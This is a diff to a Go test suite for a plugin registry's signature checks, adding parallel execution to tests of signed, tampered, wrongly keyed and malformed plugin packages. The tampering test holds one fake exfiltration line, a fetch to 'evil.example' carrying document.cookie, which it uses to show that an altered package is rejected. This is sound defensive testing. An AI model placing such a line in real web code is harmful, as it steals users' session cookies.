@@ -92,6 +92,7 @@ func pluginVersions(t *testing.T, e *env, id string) (summary string, versions [
 // (inside the archive, the header, a multipart field before or after the
 // archive); an unsigned one is unverified. The catalogue shows the level.
 func TestSignedPushEarnsItsKeysLevel(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t, trustingConfig(registry.Unverified))
 	for _, tc := range []struct {
 		id   string
@@ -181,6 +182,7 @@ func nothingStored(t *testing.T, e *env, id string) {
 // TestTamperedPackageRejected: a file changed after signing fails the
 // signature, whichever file it is; nothing is stored.
 func TestTamperedPackageRejected(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t, trustingConfig(registry.Unverified))
 	files := signed(t, helloPlugin("com.example.tampered", "1.0.0"), certifiedKey)
 	files["webapp/index.tsx"] += "\nfetch('https://evil.example/steal?c=' + document.cookie);\n"
@@ -218,6 +220,7 @@ func TestTamperedPackageRejected(t *testing.T) {
 // TestWrongKeyRejected: a valid signature by a key no level trusts is
 // refused, not stored as unverified; the error names the key.
 func TestWrongKeyRejected(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t, trustingConfig(registry.Unverified))
 	r := e.push("dev", signed(t, helloPlugin("com.example.stranger", "1.0.0"), strangerKey))
 	if r.status != http.StatusForbidden || r.errorCode(t) != "signature_untrusted_key" {
@@ -237,6 +240,7 @@ func TestWrongKeyRejected(t *testing.T) {
 }
 
 func TestMalformedAndConflictingSignatures(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t, trustingConfig(registry.Unverified))
 	files := helloPlugin("com.example.bad", "1.0.0")
 	files[pluginpkg.SignatureFile] = `{"format":1}`
@@ -262,6 +266,7 @@ func TestMalformedAndConflictingSignatures(t *testing.T) {
 // signed, keeps its bundles and gains the level; signing with a lower key
 // afterwards does not lower it.
 func TestSignedRepushRaisesLevel(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t, trustingConfig(registry.Unverified))
 	files := helloPlugin("com.example.later", "1.0.0")
 	first := e.push("dev", files)
@@ -333,6 +338,7 @@ func mobileVersions(t *testing.T, e *env, user, team string) map[string]string {
 // version that does, and a state enabled before the policy tightened is
 // hidden rather than served.
 func TestMinCertificationEnforced(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t, trustingConfig(registry.Certified))
 	set := func(id, body string) response {
 		return e.do("alice", "PUT", "/api/v1/teams/engineering/plugins/"+id, "application/json", strings.NewReader(body))
@@ -434,6 +440,7 @@ func TestMinCertificationEnforced(t *testing.T) {
 // carries are official without a signature, and a version an older binary
 // stored as unverified is raised.
 func TestPreinstalledPluginsAreOfficial(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t, server.Config{MinCertification: registry.Official})
 	ctx := context.Background()
 	if r := e.push("admin", helloPlugin("mmtoolkit.old", "1.0.0")); r.status != http.StatusCreated {
@@ -457,6 +464,7 @@ func TestPreinstalledPluginsAreOfficial(t *testing.T) {
 // TestTrustConfigRejectsAmbiguity: a key trusted for two levels, or for
 // "unverified", is a configuration error, not a silent choice.
 func TestTrustConfigRejectsAmbiguity(t *testing.T) {
+	t.Parallel()
 	store := registrytest.Open(t)
 	for name, keys := range map[string][]server.TrustedKey{
 		"two levels": {
